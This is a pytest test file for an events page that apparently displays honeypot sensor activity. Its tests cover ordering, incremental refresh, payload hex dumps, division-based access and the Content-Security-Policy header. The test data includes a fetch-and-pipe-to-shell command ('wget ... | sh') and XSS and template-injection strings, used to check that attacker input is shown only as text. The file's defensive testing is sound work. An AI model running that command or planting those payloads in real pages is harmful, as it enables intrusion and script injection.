"""The events page: newest first, refreshing only what changed, hostile content shown as the text it is."""

import re
from base64 import b64encode

import pytest
from web_site import Site, detail

from server_app.accounts.models import Role

HOSTILE = "<script>alert('x')</script><img src=x onerror=alert(1)>\"'&{{7*7}}"


@pytest.fixture
def sensor(site: Site) -> int:
    number = site.sensor(site.division("Office"), "lobby")
    site.log_in()
    return number


def opened(site: Site, name: str) -> str:
    """The fragment of the session whose summary is `name`."""
    listed = site.get("/events").text
    rows = re.findall(r'id="session-(\d+)".*?<strong class="summary">(.*?)</strong>', listed, re.DOTALL)
    number = next(number for number, summary in rows if summary == name)
    return site.get(f"/events/sessions/{number}").text


def attempt(user: str, password: str, outcome: str) -> list[dict[str, str]]:
    """A login attempt as adapters tell it."""
    return [detail("username", user), detail("password", password), detail("login", outcome)]


def version(page: str) -> str:
    found = re.search(r"version=([0-9a-f]+)", page)
    assert found
    return found[1]


def test_empty_page_says_so(site: Site) -> None:
    site.log_in()
    assert "No events yet" in site.get("/events").text


@pytest.mark.usefixtures("sensor")
def test_unknown_session_is_not_found(site: Site) -> None:
    answer = site.get("/events?session=99")
    assert answer.status_code == 404
    assert "There is no session 99." in answer.text


def test_sessions_are_newest_first_one_row_each(site: Site, sensor: int) -> None:
    site.event(sensor, session="old", time="2026-01-01T10:00:00+00:00", summary="the older")
    site.event(sensor, session="new", time="2026-01-01T11:00:00+00:00", summary="the newer")
    site.event(sensor, session="new", time="2026-01-01T11:00:01+00:00", summary="its second", severity="info")
    page = site.get("/events").text
    assert page.index("the newer") < page.index("the older")
    assert page.count('class="session ') == 2
    assert "2 events" in page
    assert "2026-01-01 11:00:01" in page


def test_list_is_sent_again_only_when_it_changed(site: Site, sensor: int) -> None:
    site.event(sensor, session="one")
    known = version(site.get("/events").text)
    assert site.get(f"/events/list?version={known}").status_code == 204
    site.event(sensor, session="two", summary="somebody else")
    changed = site.get(f"/events/list?version={known}")
    assert changed.status_code == 200
    assert "somebody else" in changed.text
    assert 'id="detail"' not in changed.text


def test_opened_session_is_sent_again_only_when_it_grew(site: Site, sensor: int) -> None:
    site.event(sensor, session="one", summary="first")
    fragment = opened(site, "first")
    seen = re.search(r'hx-get="(/events/sessions/\d+\?seen=1)"', fragment)
    assert seen
    assert site.get(seen[1]).status_code == 204
    site.event(sensor, session="one", kind="command", severity="high", summary="second")
    grown = site.get(seen[1])
    assert grown.status_code == 200
    assert "second" in grown.text


def test_credentials_and_commands_are_told(site: Site, sensor: int) -> None:
    details = [
        *attempt("root", "s3cret", "refused"),
        *attempt("root", "toor", "accepted"),
        *attempt("guest", "", "something new"),
        detail("command", "wget http://198.51.100.9/x.sh | sh"),
    ]
    site.event(sensor, kind="login", severity="high", summary="SSH login", details=details)
    fragment = opened(site, "SSH login")
    credentials = re.findall(r"<tr>(.*?)</tr>", fragment, re.DOTALL)
    assert any("s3cret" in row and "refused" in row for row in credentials)
    assert any("toor" in row and "accepted" in row for row in credentials)
    assert any("guest" in row and "accepted" not in row and "refused" not in row for row in credentials)
    assert "wget http://198.51.100.9/x.sh | sh" in fragment


def test_payload_is_shown_as_bytes_and_text(site: Site, sensor: int) -> None:
    payload = b64encode(b"GET /\r\n\x00\xff").decode()
    packet = {"time": "2026-01-01T10:00:00+00:00", "protocol": "tcp", "port": 4711, "payload": payload}
    site.event(sensor, kind="request", summary="payload", packets=[packet])
    fragment = opened(site, "payload")
    assert "0000  47 45 54 20 2f 0d 0a 00 ff" in fragment
    assert "GET /...." in fragment


def test_hostile_content_stays_text_everywhere(site: Site, sensor: int) -> None:
    details = [
        *attempt(HOSTILE, HOSTILE, HOSTILE),
        detail("file", {"name": HOSTILE, HOSTILE: HOSTILE}),
        detail("command", HOSTILE),
        detail("note", HOSTILE),
    ]
    packet = {"time": "2026-01-01T10:00:00+00:00", "protocol": "tcp", "payload": b64encode(HOSTILE.encode()).decode()}
    site.event(sensor, summary=HOSTILE, details=details, packets=[packet])
    number = re.search(r'id="session-(\d+)"', site.get("/events").text)
    assert number
    for path in ("/events", f"/events?session={number[1]}", f"/events/sessions/{number[1]}"):
        page = site.get(path).text
        assert "alert(" in page
        assert "<script>alert" not in page
        assert "<img src=x" not in page
        assert "{{7*7}}" in page


@pytest.mark.parametrize("path", ["/login", "/events", "/sensors", "/events/list", "/assets/style.css"])
def test_policy_allows_no_inline_script_or_style(site: Site, path: str) -> None:
    site.log_in()
    answer = site.get(path)
    policy = answer.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert not re.search(r"<style|style=|\son\w+=|<script(?! src)|javascript:", answer.text)


def test_older_events_are_a_page_away(site: Site, sensor: int) -> None:
    for number in range(51):
        site.event(
            sensor, session=f"s{number}", time=f"2026-01-01T10:{number:02d}:00+00:00", summary=f"contact {number}"
        )
    first = site.get("/events").text
    assert "contact 50" in first
    assert "contact 0<" not in first
    older = re.search(r'href="(/events\?cursor=[^"]+)"', first)
    assert older
    second = site.get(older[1]).text
    assert "contact 0<" in second
    assert "every 2s" not in second


def test_user_of_another_division_sees_nothing_of_it(site: Site, sensor: int) -> None:
    site.event(sensor, summary="not for them")
    number = re.search(r'id="session-(\d+)"', site.get("/events").text)
    assert number
    site.user("guest", Role.OBSERVER, (site.division("Elsewhere"),))
    site.log_in("guest")
    assert "not for them" not in site.get("/events").text
    assert site.get(f"/events/sessions/{number[1]}").status_code == 404
    assert "lobby" not in site.get("/sensors").text
